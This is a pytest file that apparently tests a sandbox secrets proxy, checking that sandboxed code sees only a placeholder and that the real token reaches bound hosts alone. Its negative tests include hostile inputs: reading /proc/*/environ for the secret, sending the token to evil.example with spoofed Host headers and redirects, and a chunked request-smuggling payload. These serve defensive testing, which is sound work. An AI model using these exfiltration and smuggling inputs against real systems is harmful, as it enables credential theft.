"""Secrets: what code in a sandbox has is a placeholder, what servers get is the value, and
only those that the secret is bound to. With real clients, and with those who try to
get more.
"""

import base64
import io
import json
import os
import pathlib
import subprocess
import tarfile
import urllib.parse

import anyio
import certifi
import charset_normalizer
import h11
import httpcore
import httpx
import idna
import pytest
import requests
import urllib3
from e2b import Sandbox, Secret

from cli import tombolo
from inside import fetch, python, send, shell
from packages import NAME

VALUE = "s3cr3t-Value/with+odd=chars&more"


@pytest.fixture(scope="module")
def secret(server):
    """A secret that may go to good.example and the servers of packages and code."""
    made = Secret.create("world-token", VALUE, metadata={
        "tombolo.hosts": "good.example, strange.example, packages.example, code.example", "tombolo.in": "authorization, x-api-key, ?token"})
    yield made
    Secret.destroy(made.name)


@pytest.fixture(scope="module")
def holder(secret):
    """A sandbox that has its placeholder as $TOKEN."""
    with Sandbox.create(timeout=900, envs={"TOKEN": Secret.fill(secret.name)}) as sandbox:
        yield sandbox


@pytest.fixture
def trusting(world):
    """The world, whose servers want the value."""
    world.origin.logins.add(VALUE)
    return world


def got(request, header="authorization"):
    """What a header of a request to the world held."""
    value, = request.header(header)
    kind, _, rest = value.partition(" ")
    return base64.b64decode(rest).decode() if kind == "Basic" else rest or kind


# --- what is inside -----------------------------------------------------------------


def test_inside_there_is_a_placeholder(holder):
    inside = shell(holder, "printf %s $TOKEN")
    assert inside and VALUE not in inside and "${" not in inside
    assert VALUE not in shell(holder, "env; cat /proc/*/environ")


def test_a_value_is_never_read_back(server, secret):
    info = Secret.get_info(secret.name)
    assert info.version == 1 and VALUE not in str(info)
    assert VALUE not in str(Secret.list().next_items())
    for path in (f"/secrets/{secret.name}", "/secrets", f"/tombolo/v1/secrets/{secret.name}", "/tombolo/v1/secrets"):
        answer = httpx.get(server.url + path, headers={"X-API-KEY": server.environment()["E2B_API_KEY"]})
        assert answer.status_code == 200 and VALUE not in answer.text


def test_an_unknown_secret_is_refused(server):
    with pytest.raises(Exception, match="no-such"):
        Sandbox.create(envs={"TOKEN": Secret.fill("no-such")}).kill()


# --- real clients -------------------------------------------------------------------


@pytest.mark.parametrize("command", [
    "curl -sS https://good.example/login -H \"Authorization: Bearer $TOKEN\"",
    "curl -sS --http1.1 https://good.example/login -H \"Authorization: Bearer $TOKEN\"",
    "curl -sS https://good.example/login -u me:$TOKEN",
    "curl -sS -G https://good.example/login --data-urlencode token=$TOKEN",
    "python3 -c \"import os, urllib.request as r; q = r.Request('https://good.example/login', headers={'Authorization': 'Bearer ' + os.environ['TOKEN']});"
    " print(r.urlopen(q).read().decode())\"",
    "node -e \"fetch('https://good.example/login', {headers: {Authorization: 'Bearer ' + process.env.TOKEN}}).then(r => r.text()).then(console.log)\"",
], ids=["curl", "curl, HTTP/1.1", "curl, Basic", "curl, query", "urllib", "Node fetch"])
def test_a_program_logs_in_with_its_placeholder(holder, trusting, command):
    assert shell(holder, command, user="user").strip() == "welcome"


PYTHON_CLIENTS = r'''
import os, sys
sys.path[:0] = sys.argv[1:]
headers = {"Authorization": "Bearer " + os.environ["TOKEN"]}
import requests
print(requests.get("https://good.example/login", headers=headers).text.strip())
print(requests.get("https://good.example/login", auth=("me", os.environ["TOKEN"])).text.strip())
try:
    import httpx
except ImportError:
    sys.exit("no httpx")
print(httpx.get("https://good.example/login", headers=headers).text.strip())
'''


@pytest.fixture(scope="module")
def libraries(holder):
    """The folder of the Python packages that the clients are, put into the sandbox."""
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w:gz") as tar:
        for module in (certifi, charset_normalizer, h11, httpcore, httpx, idna, requests, urllib3, anyio):
            folder = pathlib.Path(module.__file__).parent
            tar.add(folder, folder.name, filter=lambda entry: None if entry.name.endswith((".so", "__pycache__")) else entry)
    holder.files.write("/tmp/libraries.tgz", archive.getvalue())
    shell(holder, "mkdir -p /opt/libraries && tar -xzf /tmp/libraries.tgz -C /opt/libraries")
    return "/opt/libraries"


def test_requests_and_httpx_log_in(holder, trusting, libraries):
    assert python(holder, PYTHON_CLIENTS, libraries, user="user") == "welcome\n" * 3


JAVA = r'''
import java.net.*;
import java.net.http.*;

class Login {
    public static void main(String[] args) throws Exception {
        var request = HttpRequest.newBuilder(URI.create("https://good.example/login"))
            .header("Authorization", "Bearer " + System.getenv("TOKEN")).build();
        System.out.print(HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString()).body());
    }
}
'''


def test_java_logs_in(new_interpreter, secret, trusting):
    # It has a trust store of its own.
    box = new_interpreter(timeout=300, envs={"TOKEN": Secret.fill(secret.name)})
    box.files.write("Login.java", JAVA)
    assert shell(box, "java Login.java", user="user").strip() == "welcome"


def test_the_authority_is_still_trusted_when_packages_have_updated_the_trust(new_box, secret, trusting):
    box = new_box(timeout=300, envs={"TOKEN": Secret.fill(secret.name)})
    shell(box, "update-ca-certificates --fresh")
    assert shell(box, 'curl -sS https://good.example/login -u me:$TOKEN').strip() == "welcome"


GO = r'''
package main

import ("fmt"; "io"; "net/http"; "os")

func main() {
	request, _ := http.NewRequest("GET", "https://good.example/login", nil)
	request.Header.Set("Authorization", "Bearer "+os.Getenv("TOKEN"))
	answer, err := http.DefaultClient.Do(request)
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	body, _ := io.ReadAll(answer.Body)
	fmt.Print(answer.Proto, " ", string(body))
}
'''


@pytest.fixture(scope="module")
def go_program(tmp_path_factory):
    folder = tmp_path_factory.mktemp("go")
    (folder / "main.go").write_text(GO)
    subprocess.run(["go", "build", "-trimpath", "-ldflags=-s -w", "-o", "login", "main.go"], cwd=folder, check=True, capture_output=True,
                   env=os.environ | {"CGO_ENABLED": "0", "GOFLAGS": "-mod=mod", "GO111MODULE": "off"})
    return (folder / "login").read_bytes()


def test_a_go_program_logs_in(holder, trusting, go_program):
    holder.files.write("/tmp/login", go_program)
    assert shell(holder, "chmod +x /tmp/login; /tmp/login") == "HTTP/2.0 welcome\n"


def test_git_clones_and_pushes(holder, trusting):
    out = shell(holder, "rm -rf /tmp/project && cd /tmp && git clone -q https://me:$TOKEN@code.example/git/project.git && cat project/hello.txt"
                " && cd project && git checkout -qb mine && git -c user.name=me -c user.email=me@good.example commit -q --allow-empty -m more && git push -q origin mine",
                user="user")
    assert out == "hello from git\n"
    assert "mine" in trusting.origin.repository.branches()


def test_pip_installs(holder, trusting):
    out = shell(holder, f"pip install -q --no-cache-dir --disable-pip-version-check --target /tmp/pip --index-url https://me:$TOKEN@packages.example/simple {NAME}"
                f" && PYTHONPATH=/tmp/pip python3 -c 'import {NAME}; print({NAME}.hello())'", user="user")
    assert out.endswith("hello from python\n"), out


def test_npm_installs(holder, trusting):
    out = shell(holder, "rm -rf /tmp/npm && mkdir /tmp/npm && cd /tmp/npm && echo '//packages.example/npm/:_authToken=${TOKEN}' >.npmrc"
                f" && npm install --silent --no-audit --no-fund --registry https://packages.example/npm/ {NAME} && node -p \"require('{NAME}').hello()\"", user="user")
    assert out.endswith("hello from node\n"), out


def test_a_rule_puts_it_into_a_header(new_box, secret, world):
    rules = {"good.example": [{"transform": {"headers": {"Authorization": f"Bearer {Secret.fill(secret.name)}"}}}]}
    box = new_box(network={"rules": rules})
    assert fetch(box, "https://good.example/login")[0] == 401
    world.origin.logins.add(VALUE)
    assert fetch(box, "https://good.example/login") == (200, "welcome\n")
    assert VALUE not in str(box.get_info())


def test_a_new_value_holds_at_once(holder, secret, world):
    Secret.update(secret.name, value="another value")
    try:
        world.origin.logins.add("another value")
        assert fetch(holder, "https://good.example/login", "-H", f"Authorization: Bearer {shell(holder, 'printf %s $TOKEN')}")[0] == 200
    finally:
        Secret.update(secret.name, value=VALUE)


# --- where it may not go ----------------------------------------------------------------


@pytest.fixture(scope="module")
def placeholder(holder):
    return shell(holder, "printf %s $TOKEN")


@pytest.mark.parametrize("url, options, why", [
    ("https://other.example/echo", ["-H", "Authorization: Bearer {}"], "another host"),
    ("https://api.good.example/echo", ["-H", "Authorization: Bearer {}"], "a host below a bound one"),
    ("https://good.example/echo", ["-H", "X-Other: {}"], "another header"),
    ("https://good.example/echo", ["-d", "token={}"], "the body, which it is not bound to"),
    ("https://good.example/echo?other={}", [], "another parameter"),
    ("https://good.example/echo/{}", [], "the path"),
    ("http://good.example/echo", ["-H", "Authorization: Bearer {}"], "a connection that others can read"),
    ("https://good.example:8443/echo", ["-H", "X-Other: {}"], "another port and header"),
    ("https://evil.example/echo", ["-H", "Host: good.example", "-H", "Authorization: Bearer {}"], "a host that only says it is the one"),
    ("https://good.example/echo", ["-H", "Host: evil.example", "-H", "Authorization: Bearer {}"], "a request for another host in its connection"),
])
def test_elsewhere_it_stays_a_placeholder(holder, world, placeholder, url, options, why):
    quoted = urllib.parse.quote(placeholder)
    fetch(holder, url.format(quoted), *[option.format(placeholder) for option in options], "-k")
    for request in world.origin.requests():
        everything = f"{request.path} {request.query} {request.headers} {request.body}"
        assert VALUE not in everything and urllib.parse.quote(VALUE, safe="") not in everything, why
        assert base64.b64encode(VALUE.encode()).decode()[:-4] not in everything, why


def test_a_server_that_nobody_trusts_does_not_get_it(holder, world, placeholder):
    world.untrusted.add("strange.example")
    fetch(holder, "https://strange.example/echo", "-k", "-H", f"Authorization: Bearer {placeholder}")
    assert world.origin.requests() == []


def test_a_redirect_takes_it_nowhere(holder, world, placeholder):
    fetch(holder, "https://good.example/redirect?to=https://evil.example/echo", "-L", "--location-trusted", "-H", f"Authorization: Bearer {placeholder}")
    request, = world.origin.requests(host="evil.example")
    assert got(request) == placeholder


def test_another_sandbox_cannot_use_the_placeholder(new_box, world, placeholder):
    fetch(new_box(), "https://good.example/echo", "-H", f"Authorization: Bearer {placeholder}")
    request, = world.origin.requests("/echo")
    assert got(request) == placeholder


@pytest.mark.parametrize("how", ["plain", "header", "gzip", "chunks", "error"])
@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
def test_an_echo_is_scrubbed(holder, world, placeholder, how, version):
    url = f"https://good.example/reflect?as={how}"
    out = shell(holder, f"curl -sS -i --compressed {version} '{url}' -H \"Authorization: Bearer $TOKEN\"")
    request, = world.origin.requests("/reflect")
    assert got(request) == VALUE, "the server gets the value"
    assert VALUE not in out and "reflect" not in out.split("\n")[0]
    assert placeholder in out, "and the sandbox its placeholder back"


def test_an_echo_in_other_forms_is_scrubbed(holder, world):
    """The server's own doing: it sends back the value in Base64, as a URL has it, and as
    JSON has it."""
    out = shell(holder, "curl -sS 'https://good.example/echo' -u me:$TOKEN")
    request, = world.origin.requests("/echo")
    assert got(request) == f"me:{VALUE}"
    assert base64.b64encode(f"me:{VALUE}".encode()).decode() not in out and VALUE not in out


SMUGGLED = ("POST /first HTTP/1.1\r\nHost: good.example\r\nAuthorization: Bearer {token}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
            "GET /second HTTP/1.1\r\nHost: evil.example\r\nX-Api-Key: {token}\r\n\r\n")


def test_a_smuggled_request_gets_nothing(holder, world, placeholder):
    send(holder, "good.example", 443, SMUGGLED.format(token=placeholder), tls="good.example")
    assert [request for request in world.origin.requests() if request.host == "evil.example"] == []


def test_each_use_and_each_misuse_is_told(server, holder, world, placeholder):
    fetch(holder, "https://good.example/echo?used", "-H", f"Authorization: Bearer {placeholder}")
    fetch(holder, "https://other.example/echo?misused", "-H", f"X-Api-Key: {placeholder}")
    log = tombolo("audit", "tail", "--json", "--sandbox", holder.sandbox_id).stdout.decode()
    kinds = [json.loads(line) for line in log.splitlines() if line.startswith("{")]
    assert any(record["kind"] == "secret" and record["decision"] == "allow" for record in kinds), log[-2000:]
    assert VALUE not in log
